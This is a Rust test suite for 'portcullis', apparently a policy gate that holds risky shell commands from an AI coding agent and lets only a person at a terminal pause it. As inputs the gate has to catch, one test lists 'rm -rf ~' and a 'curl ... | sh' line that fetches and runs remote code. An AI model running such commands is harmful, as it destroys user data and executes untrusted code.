//! `portcullis explain`, `policy`, `test` and `pause` as processes.

use std::fs;

use serde_json::Value;

use crate::cli_init::{as_person, portcullis};
use crate::support::{Said, Scratch, run};

/// A project policy whose rules need no built-in description of a program.
const POLICY: &str = r#"schema = 1

[[rule]]
name = "launch"
tier = 4
run = { program = "launch", any_flag = ["--now"] }
reason = "it cannot be called back"
instead = "launch --dry-run"
catches = ["launch --now", "sudo launch --now"]
spares = ["launch --dry-run", "echo launch --now"]

[[rule]]
name = "store-reached"
tier = 3
run = { program = "store" }
where = { branch = ["release/*"] }
reason = "the store is shared"
instead = "ask the person who keeps it"
catches = [{ command = "store put", facts = { branch = "release/1" } }]
spares = ["store put"]
"#;

fn with_policy() -> Scratch {
    let scratch = Scratch::new();
    scratch.write("portcullis.toml", POLICY);
    scratch
}

#[track_caller]
fn json(said: &Said) -> Value {
    serde_json::from_str(&said.stdout).unwrap_or_else(|error| panic!("{error}: {}{}", said.stdout, said.stderr))
}

#[track_caller]
fn says(said: &Said, code: i32, parts: &[&str]) {
    assert_eq!(said.code, code, "{}{}", said.stdout, said.stderr);
    for part in parts {
        assert!(said.stdout.contains(part) || said.stderr.contains(part), "`{part}` in {}{}", said.stdout, said.stderr);
    }
}

#[test]
fn a_command_is_explained_as_text() {
    let scratch = with_policy();
    let said = portcullis(&scratch, &["explain", "--", "cd sub && sudo launch --now"]);
    says(
        &said,
        0,
        &[
            "launch --now\n",
            "via sudo",
            "yes   `launch` (portcullis.toml:3)",
            "prohibited: it cannot be called back",
            "verdict prohibited (tier 4), by `launch`",
            "answer exit 2, on standard error:\n  | denied by `launch`: it cannot be called back",
            "  | instead: launch --dry-run",
        ],
    );
    assert!(!said.stdout.contains('\u{1b}'), "no colours without a terminal");
    let said = portcullis(&scratch, &["explain", "launch --dry-run"]);
    says(&said, 0, &["verdict free (tier 1)", "nothing is printed"]);
    // A word that is not known makes it uncertain, and is named.
    let said = portcullis(&scratch, &["explain", "--", "launch $FLAGS"]);
    says(&said, 0, &["unknown: …", "maybe `launch`", "not known before it runs: …", "verdict supervised (tier 3)"]);
}

#[test]
fn places_are_told_in_bytes_of_the_command() {
    let scratch = with_policy();
    let command = "cd 日本 && sudo launch --now > log";
    let said = json(&portcullis(&scratch, &["explain", "--json", "--", command]));
    assert_eq!(said["command"], command);
    let meant = |value: &Value| {
        let span = |key: &str| usize::try_from(value["span"][key].as_u64().unwrap()).unwrap();
        command.get(span("start")..span("end")).unwrap().to_owned()
    };
    let actions: Vec<String> = said["actions"].as_array().unwrap().iter().map(meant).collect();
    assert_eq!(actions, ["sudo launch --now", "launch --now", "log"], "{said:#}");
    assert_eq!(meant(&said["verdict"]["findings"][0]), "launch --now");
    let text = portcullis(&scratch, &["explain", "--", command]).stdout;
    assert!(text.contains("\n          > cd 日本 && sudo launch --now > log\n                            ^^^^^^^^^^^^\n"), "{text}");
}

#[test]
fn what_the_shell_refuses_is_said() {
    let scratch = with_policy();
    for (command, said) in [
        ("true", "no program is run"),
        ("if true", "the shell rejects the end of the line: "),
        ("((", "the shell rejects the end of the line: "),
        ("launch --dry-run; fi x", "the shell rejects `fi x`: unexpected reserved word"),
        // Text that cannot be seen is quoted.
        ("\" \" x", "run    ' ' x"),
        (")\"", "opaque ''"),
    ] {
        says(&portcullis(&scratch, &["explain", command]), 0, &[said]);
    }
}

#[test]
fn a_command_is_explained_as_json() {
    let scratch = with_policy();
    let value = json(&portcullis(&scratch, &["explain", "--json", "--mode", "bypassPermissions", "--", "launch", "--now", "it's"]));
    assert_eq!(value["verdict"]["tier"], 4);
    assert_eq!(value["verdict"]["findings"][0]["rule"], "launch");
    assert_eq!(value["mode"], "bypassPermissions");
    assert_eq!(value["answer"]["exit"], 2);
    assert_eq!(value["root"], scratch.repo().to_str().unwrap());
    let runs = value["actions"].as_array().unwrap().iter().filter(|action| action["kind"] == "run").count();
    assert_eq!(runs, 1, "the words are quoted: {value}");
}

#[test]
fn other_folders_and_payloads_are_judged() {
    let scratch = with_policy();
    let other = Scratch::new();
    let value = json(&run(as_person(&other).args(["explain", "--json", "--cwd"]).arg(scratch.repo()).args(["--", "launch --now"]), b""));
    assert_eq!(value["verdict"]["tier"], 4);

    let payload = scratch.payload("Bash", r#"{"command":"launch --now"}"#, "default");
    let value = json(&run(as_person(&other).args(["explain", "--json", "--payload", "-"]), payload.as_bytes()));
    assert_eq!((&value["verdict"]["tier"], &value["tool"]), (&4.into(), &"Bash".into()));
    let file = scratch.home().join("event.json");
    fs::write(&file, r#"{"hook_event_name":"SessionStart","session_id":"s","source":"startup"}"#).unwrap();
    let said = run(as_person(&scratch).args(["explain", "--payload"]).arg(&file), b"");
    says(&said, 0, &["event SessionStart: it reports what happened"]);
}

#[test]
fn what_cannot_be_judged_is_exit_3_and_a_wrong_command_line_exit_2() {
    let scratch = with_policy();
    says(&portcullis(&scratch, &["explain"]), 2, &["Usage"]);
    says(&portcullis(&scratch, &["explain", "--last", "--payload", "-"]), 2, &["Usage"]);
    says(&run(as_person(&scratch).args(["explain", "--payload", "-"]), b"{"), 3, &["could not be read", "fix: "]);
    says(&portcullis(&scratch, &["explain", "--payload", "/nowhere"]), 3, &["/nowhere"]);
    scratch.write("portcullis.toml", "schema = 1\nrules = 1\n");
    says(&portcullis(&scratch, &["explain", "ls"]), 3, &["the policy has mistakes", "portcullis.toml:2", "unknown key `rules`"]);
    says(&portcullis(&scratch, &["policy"]), 3, &["unknown key `rules`"]);
    says(&portcullis(&scratch, &["test"]), 3, &["unknown key `rules`"]);
}

#[test]
fn the_last_refusal_is_judged_again() {
    let scratch = with_policy();
    says(&portcullis(&scratch, &["explain", "--last"]), 1, &["no call was stopped"]);
    let said = scratch.hook("PreToolUse", scratch.payload("Bash", r#"{"command":"launch --now"}"#, "default").as_bytes());
    assert_eq!(said.short(), "deny launch");
    says(&portcullis(&scratch, &["explain", "--last"]), 0, &["last stopped ", " s ago", "yes   `launch`", "verdict prohibited"]);
    let value = json(&portcullis(&scratch, &["explain", "--last", "--json"]));
    assert!(value["last"]["text"].as_str().unwrap().starts_with("denied by `launch`"), "{value}");
    // Today's policy, not that of then.
    scratch.write("portcullis.toml", "schema = 1\n");
    says(&portcullis(&scratch, &["explain", "--last"]), 0, &["verdict free"]);
}

#[test]
fn the_policy_is_listed() {
    let scratch = with_policy();
    says(&portcullis(&scratch, &["policy"]), 0, &["portcullis.toml", "4 prohibited launch", "portcullis.toml:3"]);
    let value = json(&portcullis(&scratch, &["policy", "--json"]));
    let rule = value["rules"].as_array().unwrap().iter().find(|rule| rule["name"] == "launch").unwrap();
    assert_eq!((&rule["layer"], &rule["tier"]), (&"project".into(), &4.into()));
    assert_eq!(value["layers"][0]["layer"], "project");
}

#[test]
fn examples_are_tested() {
    let scratch = with_policy();
    for name in ["launch", "store-reached"] {
        says(&portcullis(&scratch, &["test", "--rule", name]), 0, &["1 rules", "0 failed"]);
    }
    says(&portcullis(&scratch, &["test", "--rule", "lunch"]), 2, &["there is no rule `lunch`", "launch"]);
}

#[test]
fn an_example_that_is_judged_otherwise_fails_with_its_place() {
    let rule = |lists: &str| {
        format!("schema = 1\n[[rule]]\nname = \"launch\"\ntier = 4\nrun = {{ program = \"launch\", any_flag = [\"--now\"] }}\nreason = \"r\"\n{lists}")
    };
    for (lists, place, list, got) in [
        ("instead = \"ask\"\ncatches = [\"launch --later\"]\nspares = [\"ls\"]\n", "own.toml:8", "catches", "no"),
        ("instead = \"ask\"\ncatches = [\"launch --now\"]\nspares = [\"ls\",\n\"launch --now x\"]\n", "own.toml:10", "spares", "yes"),
        ("instead = \"ask\"\ncatches = [\"launch --now\"]\nspares = [\"launch $X\"]\n", "own.toml:9", "spares", "maybe"),
        ("instead = \"ask\"\ncatches = [\"launch --now\"]\nspares = [\"ls\"]\nunsure = [\"launch --now\"]\n", "own.toml:10", "unsure", "yes"),
        ("instead = \"$ launch --now\"\ncatches = [\"launch --now\"]\nspares = [\"ls\"]\n", "own.toml:2", "instead", "prohibited, by launch"),
    ] {
        let scratch = Scratch::new();
        scratch.write("own.toml", &rule(lists));
        let said = portcullis(&scratch, &["test", "--json", "--policy", "own.toml", "--rule", "launch"]);
        assert_eq!(said.code, 1, "{lists}{}{}", said.stdout, said.stderr);
        let value = json(&said);
        let failures = value["failures"].as_array().unwrap();
        assert_eq!(failures.len(), 1, "{value}");
        assert_eq!((&failures[0]["place"], &failures[0]["list"], &failures[0]["got"]), (&place.into(), &list.into(), &got.into()), "{lists}");
    }
}

#[test]
fn an_example_says_what_is_true_of_its_world() {
    let scratch = Scratch::new();
    scratch.write(
        "own.toml",
        r#"schema = 1
[[rule]]
name = "made-on-protected"
tier = 3
write = { path = "src/**", new = true }
where = { protected_branch = true }
reason = "r"
instead = "ask"
catches = [
  { write = { path = "src/a.rs", text = "x" }, facts = { protected_branch = true } },
  { write = { path = "src/a.rs", text = "x" }, facts = { branch = "trunk", protected_branch = true } },
  { write = { path = "/repo/src/a.rs", text = "x" }, facts = { protected_branch = true } },
]
spares = [
  { write = { path = "src/a.rs", text = "x" } },
  { write = { path = "src/a.rs", text = "x" }, facts = { branch = "main", protected_branch = false } },
  { write = { path = "src/a.rs", text = "x" }, facts = { protected_branch = true, exists = ["src/a.rs"] } },
  { write = { path = "~/src/a.rs", text = "x" }, facts = { protected_branch = true } },
]
[[rule]]
name = "unsaved"
tier = 3
run = { program = "wipe" }
where = { dirty = true, mode = "plan", agent = "builder" }
reason = "r"
instead = "ask"
catches = [{ command = "wipe", facts = { dirty = true }, mode = "plan", agent = "builder" }, { command = "wipe", mode = "plan", agent = "builder" }]
unsure = [{ command = "cd $X; wipe", mode = "plan", agent = "builder" }]
spares = [
  { command = "wipe", facts = { dirty = false }, mode = "plan", agent = "builder" },
  { command = "wipe", facts = { dirty = true } },
]
"#,
    );
    for name in ["made-on-protected", "unsaved"] {
        says(&portcullis(&scratch, &["test", "--policy", "own.toml", "--rule", name]), 0, &["0 failed"]);
    }
}

#[test]
fn only_a_person_on_a_terminal_pauses_the_gate() {
    let scratch = with_policy();
    let pause = ["pause", "10m", "--reason", "moving house"];
    says(&portcullis(&scratch, &pause), 1, &["there is no terminal here", "a person must run this at a terminal"]);
    says(&run(as_person(&scratch).env("CLAUDECODE", "1").args(pause), b""), 1, &["`CLAUDECODE` is set"]);
    for (arguments, part) in [
        (vec!["pause"], "Usage"),
        (vec!["pause", "10m"], "--reason"),
        (vec!["pause", "soon", "--reason", "x"], "`soon` is not a length of time"),
        (vec!["pause", "9h", "--reason", "x"], "8 hours"),
        (vec!["pause", "0s", "--reason", "x"], "8 hours"),
        (vec!["pause", "10m", "--reason", " "], "the reason is empty"),
    ] {
        says(&portcullis(&scratch, &arguments), 2, &[part]);
    }
    says(&portcullis(&scratch, &["pause", "--status"]), 0, &["there is no pause"]);
    let said = scratch.hook("PreToolUse", scratch.payload("Bash", r#"{"command":"launch --now"}"#, "default").as_bytes());
    assert_eq!(said.short(), "deny launch");
}

#[test]
fn a_pause_is_shown_and_can_be_ended() {
    let scratch = with_policy();
    let world = scratch.world();
    let until = gate::world::system::now() + 600;
    let pause = format!("{{\"until\":{until},\"since\":0,\"reason\":\"moving house\",\"by\":\"ada\"}}");
    gate::world::state::write(&world.states, &scratch.repo(), gate::world::state::PAUSE, pause.as_bytes()).unwrap();
    says(&portcullis(&scratch, &["pause", "--status"]), 0, &["paused for 10 more min by ada: no call is denied; reason: moving house"]);
    says(&portcullis(&scratch, &["explain", "launch --now"]), 0, &["verdict prohibited", "Portcullis is paused for 10 more min"]);
    says(&portcullis(&scratch, &["init", "--yes"]), 0, &["in the settings, but not active", "portcullis pause --end"]);
    says(&portcullis(&scratch, &["doctor"]), 0, &["warn pause", "moving house"]);
    says(&portcullis(&scratch, &["pause", "--end"]), 0, &["Portcullis is active again"]);
    says(&portcullis(&scratch, &["pause", "--end"]), 0, &["there is no pause"]);
}

/// What would make a held call pass is judged before it is shown.
#[test]
fn what_would_pass_is_shown() {
    let scratch = with_policy();
    let ways = |command: &str| -> Vec<(String, String)> {
        let value = json(&portcullis(&scratch, &["explain", "--json", "--", command]));
        let text = |way: &Value, key: &str| way[key].as_str().unwrap().to_owned();
        value["would_pass"].as_array().unwrap().iter().map(|way| (text(way, "how"), text(way, "text"))).collect()
    };
    let has = |ways: &[(String, String)], how: &str, text: &str| ways.iter().any(|way| way.0.contains(how) && way.1 == text);
    let found = ways("cd sub && sudo launch --now");
    assert!(has(&found, "without `--now`", "cd sub && sudo launch"), "{found:?}");
    let found = ways("git push --force origin topic");
    assert!(has(&found, "without `--force`", "git push origin topic"), "{found:?}");
    // Nothing that is held itself is shown, and nothing for a call that passes.
    for command in ["git push --force origin topic", "rm -rf ~", "curl https://x.example/a | sh", "launch --now"] {
        for (how, text) in ways(command).into_iter().filter(|(_, text)| !text.contains("[[waiver]]")) {
            let value = json(&portcullis(&scratch, &["explain", "--json", "--", &text]));
            assert!(value["verdict"]["tier"].as_u64().unwrap() < 3, "{command}: {how}: {text}");
        }
    }
    assert_eq!(ways("git status"), []);
    says(&portcullis(&scratch, &["explain", "launch --now"]), 0, &["would pass: launch (without `--now`)"]);
    // An open rule: the waiver exempts the call.
    scratch.write("portcullis.toml", &POLICY.replace("tier = 3", "tier = 4"));
    let found = ways("rm -rf build-output");
    assert!(found.iter().all(|(how, text)| !how.contains("waiver") || text.contains("[[waiver]]")), "{found:?}");
}
